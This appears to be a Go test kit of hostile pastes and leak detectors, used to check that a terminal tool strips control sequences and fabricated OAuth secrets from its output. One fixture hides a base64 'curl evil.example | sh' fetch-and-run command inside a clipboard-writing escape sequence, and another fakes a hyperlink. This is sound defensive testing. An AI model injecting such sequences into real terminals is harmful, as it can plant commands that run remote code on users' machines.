package testkit

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"unicode/utf8"
)

// Hostile is a paste that must never reach any output as it was: a
// terminal control sequence, an invisible or reordering character, or a
// secret.
type Hostile struct {
	// Name says what the paste carries, for test names.
	Name string
	// Paste is the whole paste, with ordinary text around the payload so
	// that readers treat it as they would a real one.
	Paste string
	// Secrets are the parts of the paste that must never be shown, copied or
	// written anywhere: a secret, or the body of a control sequence (the
	// sequence's own bytes are caught by Leaks).
	Secrets []string
}

// The secrets the variants carry. Each is long and random-looking, so that
// finding one in an output can only mean it leaked.
const (
	jwtHeader    = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9"
	jwtClaims    = "eyJ0ZW5hbnRJZCI6MTIzNDU2NywidXNlcklkIjoiOGYzZSJ9"
	JWTSignature = "c2lnbmF0dXJlLXRoYXQtbXVzdC1uZXZlci1iZS1zaG93bg"
	// SecretJWT is a whole access token; InspectToken decodes its claims,
	// which are not secret, but shows none of its signature.
	SecretJWT    = jwtHeader + "." + jwtClaims + "." + JWTSignature
	ClientSecret = "Z8yQp3LmN7vR2sT9wX4k"
	RefreshUUID  = "4f0c1a2b-9d8e-4c7b-a6f5-e4d3c2b1a098"
	AuthCode     = "aC0dE7xYz93KpL2mWq"
	// BasicPair is base64 of client-id:Z8yQp3LmN7vR2sT9wX4k.
	BasicPair   = "Y2xpZW50LWlkOlo4eVFwM0xtTjd2UjJzVDl3WDRr"
	BearerToken = "opaque9Tok3nFromAnotherIdP2"
)

// ControlSequences are the 19 classes of control sequence and invisible
// character a paste may carry to restyle a terminal, write its clipboard,
// fake a link, retitle its window, hide or reorder text, or overwrite a
// line. Each is wrapped in an ordinary error line.
func ControlSequences() []Hostile {
	wrap := func(name, payload string, hidden ...string) Hostile {
		return Hostile{Name: name, Paste: "Har inte behörighet för scope " + payload + " code 2000663 {\"message\":\"unauthorized\"}", Secrets: hidden}
	}
	// The hidden parts are the bodies of the sequences: a terminal acts on
	// them, so they must go with the sequence, never show as text.
	return []Hostile{
		wrap("csi", "\x1b[2J\x1b[31mred\x1b[0m\x1b[1;1H"),
		wrap("osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="),
		wrap("osc8-hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "evil.example"),
		wrap("osc0-title", "\x1b]0;pwn3dTitle\x07", "pwn3dTitle"),
		wrap("dcs", "\x1bP1$qXdcsBodyX\x1b\\", "XdcsBodyX"),
		wrap("apc", "\x1b_GapcBodyX\x1b\\", "GapcBodyX"),
		wrap("pm", "\x1b^pmBodyX\x1b\\", "pmBodyX"),
		wrap("sos", "\x1bXsosBodyX\x1b\\", "sosBodyX"),
		wrap("c1-utf8", "\u009b31m\u009d0;c1TitleX\u009c", "c1TitleX"),
		wrap("c1-raw-bytes", "\x9b31m\x9d0;title\x07"),
		wrap("bel", "ring\x07\x07"),
		wrap("bare-cr", "visible\rhidden over it"),
		wrap("backspace", "secret\x08\x08\x08\x08\x08\x08shown"),
		wrap("del", "abc\x7fdef"),
		wrap("bidi", "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f"),
		wrap("zero-width", "in\u200bvis\u200cible\u200d\u2060\ufeff"),
		wrap("line-separators", "one\u2028two\u2029three\u0085four"),
		wrap("json-escaped-esc", `{"message":"\u001b]52;c;ZXZpbA==\u0007\u001b[31m"}`),
		wrap("invalid-utf8", "\xff\xfe\xc3"),
	}
}

// Secrets are the variants in which people paste secrets: a JWT hard-wrapped
// across lines, keys with spaces and in JSON, curl -u, a percent-encoded
// form body, headers with the value on the next line, unclosed quotes, a
// bare UUID, a signature alone, and authorization codes behind escaped
// separators.
func Secrets() []Hostile {
	return []Hostile{
		{"jwt", "Authorization: Bearer " + SecretJWT + "\nHTTP 401", []string{SecretJWT, JWTSignature}},
		{"jwt-hard-wrapped", "token:\n" + jwtHeader + "." + jwtClaims[:20] + "\n" + jwtClaims[20:] + "." + JWTSignature[:24] + "\n" + JWTSignature[24:] + "\nfailed with 401", []string{JWTSignature[:24], JWTSignature[24:], jwtClaims[20:]}},
		{"jwt-signature-alone", "the signature part was " + JWTSignature + " and it failed", []string{JWTSignature}},
		{"client-secret-spaced", "Client Secret: " + ClientSecret + "\nClient ID: abc", []string{ClientSecret}},
		{"client-secret-header", "Client-Secret: " + ClientSecret, []string{ClientSecret}},
		{"json-secret", `{"client_id": "abc", "secret": "` + ClientSecret + `"}`, []string{ClientSecret}},
		{"curl-u", "curl -u client-id:" + ClientSecret + " https://apps.fortnox.se/oauth-v1/token", []string{ClientSecret}},
		{"percent-encoded-body", "body=grant_type%3Drefresh_token%26refresh_token%3D" + RefreshUUID + "%26client_secret%3D" + ClientSecret, []string{ClientSecret, RefreshUUID}},
		{"basic-next-line", "Authorization: Basic\n  " + BasicPair + "\nHTTP 401", []string{BasicPair}},
		{"basic", "Authorization: Basic " + BasicPair, []string{BasicPair}},
		{"refresh-unclosed-quote", `refresh_token="` + RefreshUUID + "\nrejected: invalid_grant", []string{RefreshUUID}},
		{"value-next-line", "client_secret:\n    " + ClientSecret + "\nrefresh_token =\n" + RefreshUUID, []string{ClientSecret, RefreshUUID}},
		{"bare-uuid-in-prose", "My refresh token " + RefreshUUID + " stopped working after a day", []string{RefreshUUID}},
		{"refresh-token-json", `{"access_token":"` + SecretJWT + `","refresh_token":"` + RefreshUUID + `","scope":"invoice"}`, []string{SecretJWT, JWTSignature, RefreshUUID}},
		{"code-after-json-amp", `https://example.com/callback?state=xyz\u0026code=` + AuthCode, []string{AuthCode}},
		{"code-after-html-amp", `<a href="https://example.com/callback?state=xyz&amp;code=` + AuthCode + `">`, []string{AuthCode}},
		{"code-after-hash", "https://example.com/callback#code=" + AuthCode + "&state=xyz", []string{AuthCode}},
		{"code-in-another-value", "https://apps.fortnox.se/oauth-v1/auth?client_id=abc&state=xyz%26code%3D" + AuthCode + "&scope=invoice&response_type=code", []string{AuthCode}},
		{"bearer-opaque", "Authorization: Bearer " + BearerToken, []string{BearerToken}},
		{"access-token-header", "Access-Token: " + RefreshUUID, []string{RefreshUUID}},
	}
}

// All is every hostile paste: the control sequences and the secrets.
func All() []Hostile { return append(ControlSequences(), Secrets()...) }

// Leaks lists what in an output must never be there: a control character
// or escape (other than newline and tab), a C1 control, a character that
// hides or reorders text, a line separator other than \n, invalid UTF-8,
// and any of the secrets. When the output is JSON, its decoded strings are
// checked too, as a program reading it sees them.
func Leaks(out string, secrets []string) []string {
	var found []string
	found = append(found, controlLeaks(out)...)
	var v any
	if trimmed := strings.TrimSpace(out); strings.HasPrefix(trimmed, "{") || strings.HasPrefix(trimmed, "[") {
		if json.Unmarshal([]byte(trimmed), &v) == nil {
			walkStrings(v, func(s string) {
				for _, l := range controlLeaks(s) {
					found = append(found, "in a JSON string: "+l)
				}
			})
		}
	}
	for _, s := range secrets {
		if s != "" && strings.Contains(out, s) {
			found = append(found, fmt.Sprintf("the secret %q", s))
		}
	}
	return found
}

func controlLeaks(s string) []string {
	var found []string
	seen := map[string]bool{}
	note := func(what string) {
		if !seen[what] {
			seen[what] = true
			found = append(found, what)
		}
	}
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			note(fmt.Sprintf("invalid UTF-8 byte %#x", s[i]))
		case r < 0x20 && r != '\n' && r != '\t', r == 0x7f:
			note(fmt.Sprintf("control character %U", r))
		case r >= 0x80 && r <= 0x9f:
			note(fmt.Sprintf("C1 control %U", r))
		case r == '\u2028' || r == '\u2029':
			note(fmt.Sprintf("line separator %U", r))
		case isInvisible(r):
			note(fmt.Sprintf("invisible or reordering character %U", r))
		}
		i += size
	}
	return found
}

// isInvisible reports the format characters that hide or reorder text: bidi
// marks, overrides and isolates, zero-width characters and the BOM.
func isInvisible(r rune) bool {
	switch {
	case r >= 0x200b && r <= 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2060 && r <= 0x2069,
		r == 0xfeff, r == 0x061c, r == 0x00ad:
		return true
	}
	return false
}

func walkStrings(v any, f func(string)) {
	switch v := v.(type) {
	case string:
		f(v)
	case map[string]any:
		for k, x := range v {
			f(k)
			walkStrings(x, f)
		}
	case []any:
		for _, x := range v {
			walkStrings(x, f)
		}
	}
}

// styling matches the escape sequences a full-screen frame draws with:
// SGR styling and the OSC 8 hyperlinks the wizard makes itself.
var styling = regexp.MustCompile(`\x1b\[[0-9;:]*m|\x1b\]8;[^\x07\x1b]*(\x07|\x1b\\)`)

// FrameLeaks is Leaks for a frame of the full-screen wizard, which styles
// its own text: its styling sequences are allowed, any other escape is
// not. The secrets, and the hidden parts of each hostile paste (the target
// of an OSC 8 link, for one), are looked for in the whole frame, styling
// sequences included.
func FrameLeaks(frame string, secrets []string) []string {
	found := Leaks(styling.ReplaceAllString(frame, ""), nil)
	for _, s := range secrets {
		if s != "" && strings.Contains(frame, s) {
			found = append(found, fmt.Sprintf("the secret %q", s))
		}
	}
	return found
}
